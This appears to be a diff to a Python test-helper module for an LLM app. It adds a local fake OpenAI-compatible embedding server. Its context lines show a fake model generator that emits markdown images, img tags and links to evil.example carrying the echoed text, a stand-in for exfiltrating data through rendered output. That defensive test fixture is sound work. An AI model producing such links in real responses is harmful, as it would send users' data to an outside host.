@@ -142,3 +142,49 @@ def echo_of_everything(prompt: str) -> Iterator[str]:
         yield f"{line} [1][99]\n"
         yield f"![{line}](https://evil.example/{line}) <img src='https://evil.example/?q={line}'> "
         yield f"[{line}](https://evil.example/?q={line}) See https://evil.example/{line} now. [2]\n"
+
+
+class EmbeddingServer:
+    """An OpenAI-compatible embedding server: gives each text its length and a one, or the vector it was told."""
+
+    def __init__(self, vector: list[float] | None = None) -> None:
+        self.vector = vector
+        self.calls: list[dict[str, Any]] = []
+        self.url = ""
+
+    @contextmanager
+    def running(self) -> Iterator["EmbeddingServer"]:
+        server = ThreadingHTTPServer(("127.0.0.1", 0), self.handler())
+        self.url = f"http://127.0.0.1:{server.server_port}/v1"
+        thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
+        thread.start()
+        try:
+            yield self
+        finally:
+            server.shutdown()
+            server.server_close()
+            thread.join()
+
+    def answer(self, texts: list[str]) -> dict[str, Any]:
+        vectors = [[float(len(text)), 1.0] if self.vector is None else self.vector for text in texts]
+        data = [{"object": "embedding", "index": index, "embedding": vector} for index, vector in enumerate(vectors)]
+        return {"object": "list", "model": "double", "data": data, "usage": {"prompt_tokens": 1, "total_tokens": 1}}
+
+    def handler(self) -> type[BaseHTTPRequestHandler]:
+        double = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_POST(self) -> None:
+                call = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
+                double.calls.append(call)
+                body = json.dumps(double.answer(call["input"])).encode()
+                self.send_response(200)
+                self.send_header("Content-Type", "application/json")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        return Handler
